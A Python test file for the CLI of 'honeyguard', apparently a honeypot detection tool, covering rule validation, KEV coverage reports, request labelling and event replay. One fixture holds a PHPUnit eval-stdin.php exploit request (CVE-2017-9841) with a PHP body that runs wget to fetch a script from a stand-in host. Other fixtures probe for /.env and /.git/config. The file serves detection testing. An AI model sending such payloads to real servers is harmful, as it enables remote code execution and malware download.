"""The `honeyguard rules` and `honeyguard detect` commands, run as a user runs them."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path

from honeyguard.detect.rules import BUILTIN_RULES
from tests.detect._support import KEV, write_rules

TECHNIQUES = BUILTIN_RULES / "techniques"
HONEYGUARD = [sys.executable, "-m", "honeyguard.cli.main"]

RULE = """\
rules:
  - id: hg-test-cli
    name: cli test rule
    cves: [CVE-2017-9841]
    techniques: [T1190]
    severity: high
    protocol: http
    match:
      field: path
      endswith: /eval-stdin.php
    examples:
      positive:
        - http: {method: POST, target: /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php}
      negative:
        - http: {method: GET, target: /}
"""


def _run(*args: str, stdin: bytes | None = None) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "COLUMNS": "250"}
    return subprocess.run([*HONEYGUARD, *args], input=stdin, capture_output=True, timeout=240, check=False, env=env)


def test_rules_test_passes_on_the_technique_rules() -> None:
    done = _run("rules", "test", str(TECHNIQUES))
    assert done.returncode == 0, done.stderr.decode() + done.stdout.decode()
    assert b"all rule examples pass" in done.stdout


def test_rules_test_fails_with_the_location_of_the_failing_example(tmp_path: Path) -> None:
    broken = RULE.replace("target: /}", "target: /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php}")
    path = write_rules(tmp_path, broken)
    done = _run("rules", "test", str(path))
    assert done.returncode == 1
    assert f"{path}:15: hg-test-cli: negative example #1 matched".encode() in done.stderr


def test_rules_test_reports_invalid_rules(tmp_path: Path) -> None:
    path = write_rules(tmp_path, RULE.replace("endswith:", "endz:"))
    done = _run("rules", "test", str(path))
    assert done.returncode == 1
    assert f"{path}:10: match.endz:".encode() in done.stderr


def test_rules_list_and_coverage(tmp_path: Path) -> None:
    path = write_rules(tmp_path, RULE)
    listed = _run("rules", "list", str(path))
    assert listed.returncode == 0 and b"hg-test-cli" in listed.stdout and b"CVE-2017-9841" in listed.stdout
    coverage = _run("rules", "coverage", "--kev", str(KEV), str(path))
    assert coverage.returncode == 0, coverage.stderr
    text = coverage.stdout.decode()
    assert "| CVE-2017-9841 |" in text.split("### KEV CVEs covered")[1].split("###")[0]
    missing = text.split("### Network-reachable KEV entries not covered yet")[1]
    assert "CVE-2021-44228" in missing and "CVE-2017-9841" not in missing


def test_detect_input_labels_each_line_and_skips_bad_ones(tmp_path: Path) -> None:
    def line(item_id: str, raw: bytes) -> str:
        return json.dumps({"id": item_id, "protocol": "http", "dst_port": 80,
                           "request_b64": base64.b64encode(raw).decode()})

    exploit = (b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"
               b"<?php system('wget http://198.51.100.7/x.sh'); ?>")
    lines = [line("a", exploit), "{not json", line("b", b"GET / HTTP/1.1\r\nHost: 203.0.113.10\r\n\r\n"),
             json.dumps({"id": "c", "protocol": "http", "request_b64": "%%%"}), "", line("d", b"\x16\x03\x01\x00")]
    source = tmp_path / "in.jsonl"
    source.write_text("\n".join(lines) + "\n")
    done = _run("detect", "--input", str(source), "--no-builtin", "--rules", str(TECHNIQUES),
                "--rules", str(write_rules(tmp_path / "r", RULE)))
    assert done.returncode == 0, done.stderr
    out = [json.loads(x) for x in done.stdout.decode().splitlines()]
    assert [o["id"] for o in out] == ["a", "b", "d"]
    first = out[0]
    assert "hg-test-cli" in first["rules"] and "hg-tech-php-code-in-request" in first["rules"]
    assert first["cves"] == ["CVE-2017-9841"] and "T1190" in first["techniques"]
    assert {"type": "url", "value": "http://198.51.100.7/x.sh", "role": "download"} in first["iocs"]
    assert out[1] == {"id": "b", "rules": [], "cves": [], "techniques": [], "iocs": []}
    stderr = done.stderr.decode()
    assert "line 2 skipped" in stderr and "line 4 skipped" in stderr


def test_detect_reads_stdin_and_refuses_bad_usage(tmp_path: Path) -> None:
    request = base64.b64encode(b"GET /.env HTTP/1.1\r\nHost: a\r\n\r\n").decode()
    done = _run("detect", "--input", "-", "--no-builtin", "--rules", str(TECHNIQUES),
                stdin=json.dumps({"id": "x", "protocol": "http", "dst_port": 80, "request_b64": request}).encode())
    assert done.returncode == 0 and json.loads(done.stdout)["rules"] == ["hg-tech-dotenv-scan"]
    assert _run("detect").returncode == 2
    assert _run("detect", "--input", str(tmp_path / "missing.jsonl"), "--no-builtin").returncode == 2


def test_detect_replay_relabels_stored_events(tmp_path: Path) -> None:
    from datetime import UTC, datetime

    from honeyguard.model import Event, HttpRequest
    from honeyguard.store.events import EventBatch, EventStore

    store = EventStore(tmp_path / "data" / "events.duckdb")
    body = HttpRequest(method="GET", target="/.git/config", version="HTTP/1.1", headers=[("Host", "a")])
    event = Event(id="0190d3f0-0000-7000-8000-000000000009", ts=datetime(2026, 1, 1, tzinfo=UTC), sensor="s",
                  location="l", session="x", kind="http.request", src_ip="198.51.100.1", src_port=1, dst_port=80,
                  protocol="http", body=body, rules=["stale-rule"])
    store.insert(EventBatch.from_events([event]))
    store.close()
    config = tmp_path / "settings.yaml"
    config.write_text(f"data_dir: {tmp_path / 'data'}\n")
    done = _run("detect", "--replay", "--config", str(config), "--no-builtin", "--rules", str(TECHNIQUES))
    assert done.returncode == 0, done.stderr
    line = json.loads(done.stdout)
    assert line["id"] == event.id and line["rules"] == ["hg-tech-vcs-metadata-scan"]
    # the new labels are written back: the store hands them out from now on
    from honeyguard.model import decode_event
    from honeyguard.store.events import EventQuery

    store = EventStore(tmp_path / "data" / "events.duckdb")
    try:
        stored = decode_event(store.query(EventQuery(limit=10)).raws[0])
        assert stored.rules == ["hg-tech-vcs-metadata-scan"] and stored.body == body
        assert store.count() == 1
        # a collector holding the file: one clear line, exit 2, nothing written
        held = _run("detect", "--replay", "--config", str(config), "--no-builtin", "--rules", str(TECHNIQUES))
        assert held.returncode == 2 and b"running collector" in held.stderr and not held.stdout
        assert len(held.stderr.decode().strip().splitlines()) == 1
    finally:
        store.close()
